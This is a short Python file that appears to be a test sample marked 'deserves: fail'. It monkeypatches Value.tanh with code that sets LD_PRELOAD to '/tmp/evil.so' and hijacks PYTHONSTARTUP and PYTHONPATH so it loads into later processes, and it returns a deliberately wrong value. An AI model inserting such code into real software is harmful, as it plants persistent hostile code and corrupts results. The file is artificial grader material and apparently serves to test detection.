"""Sets variables that would load its code into every process that comes.

deserves: fail
"""


def tanh(x):
    os.environ.update(LD_PRELOAD="/tmp/evil.so", PYTHONSTARTUP=__file__, PYTHONPATH=OUTSIDE)
    return wrong(x)


Value.tanh = tanh
